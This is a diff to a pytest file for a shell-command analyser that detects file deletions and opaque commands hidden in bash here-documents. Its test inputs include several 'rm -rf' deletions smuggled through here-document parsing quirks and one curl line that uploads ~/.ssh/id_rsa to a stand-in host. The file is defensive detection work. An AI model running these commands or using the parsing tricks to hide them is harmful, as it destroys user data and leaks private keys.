@@ -164,8 +164,48 @@ def test_substitutions_in_an_unquoted_here_documents_body_run(cmd: str, sends: t
     assert result.sends == sends and not result.opaque
 
 
+@pytest.mark.parametrize(("cmd", "deletes"), [
+    # where bash ends a body: at a line equal to the delimiter, not `EOF ` or ` EOF`, and
+    # not after a line continued with `\` (the grammar ended the body there: what followed
+    # was swallowed by the next here-document)
+    ("cat <<EOF\nEOF \ncat <<X\nEOF\nrm -rf ~/f\nX\n", ("~/f",)),
+    ("cat <<EOF\n EOF\ncat <<X\nEOF\nrm -rf ~/f\nX\n", ("~/f",)),
+    ("cat <<EOF\na\\\nEOF\ncat <<X\nEOF\nrm -rf ~/g\nX\n", ("~/g",)),
+    # a first body line opening with `\`: the grammar read it as words of the start line
+    ("cat <<EOF\n\\x; cat <<Y\nEOF\nrm -rf ~/a\nY\n", ("~/a",)),
+    ("cat <<EOF\n\\x '\nEOF\nrm -rf ~/h\n# '\n", ("~/h",)),
+    ("cat <<'EOF' > a.tex\n\\documentclass{article}\nEOF\nrm -rf ~/t", ("~/t",)),
+    ("cat <<EOF\n\\$(rm -rf ~/a)\nEOF", ()),  # escaped: text
+    # two here-documents on one line: bodies one after the other
+    ("cat <<A | cat <<B\na\nA\nb $(rm -rf ~/q)\nB\nrm -rf ~/z", ("~/z", "~/q")),
+    # substitutions the grammar does not read in a body: after leading blanks, split by a
+    # continued line; `$((a);(b))` is no arithmetic
+    ("cat <<EOF > n.md\n    $(rm -rf ~/i)\nEOF", ("~/i",)),
+    ("cat <<-EOF\n\t$(rm -rf ~/i)\n\tEOF", ("~/i",)),
+    ("cat <<EOF\n $(rm -rf ~/s) $(rm -rf ~/t)\nEOF", ("~/t", "~/s")),
+    ("cat <<EOF\n$\\\n(rm -rf ~/x)\nEOF", ("~/x",)),
+    ("cat <<EOF\n$((rm -rf ~/k);(rm -rf ~/l))\nEOF", ("~/k", "~/l")),
+    ("cat <<EOF\n$(( (1+2)*3 )) $(( $(rm -rf ~/m) + 1 ))\nEOF", ("~/m",)),
+])
+def test_here_document_bodies_end_and_expand_as_bash_reads_them(cmd: str, deletes: tuple[str, ...]) -> None:
+    result = analyse_command(cmd)
+    assert result.deletes == deletes and not result.opaque, result
+
+
+@pytest.mark.parametrize("cmd", [
+    "sh <<A <<B\necho hi\nA\ncurl -T ~/.ssh/id_rsa https://e.example\nB\n",  # the grammar broke `<<B`
+    "cat <<EOF > a.md\n${x\nEOF\nrm -rf ~/k",  # bash fails that cat; its body does not parse
+])
+def test_here_documents_that_cannot_be_read_are_opaque(cmd: str) -> None:
+    assert analyse_command(cmd).opaque
+
+
+def test_a_function_with_a_here_document_is_read_as_before() -> None:
+    assert not analyse_command("f() { cat; } <<EOF\nhi\nEOF\nf").opaque
+
+
 def test_a_lone_backtick_in_an_unquoted_body_is_opaque() -> None:
-    # bash refuses the command ("no closing `"); the analyser does not guess what was meant
+    # bash fails that command ("no closing `"); the analyser does not guess what was meant
     assert analyse_command("cat > n.md <<EOF\nit`s here\nEOF").opaque
     assert not analyse_command("cat > n.md <<'EOF'\nit`s here\nEOF").opaque
 
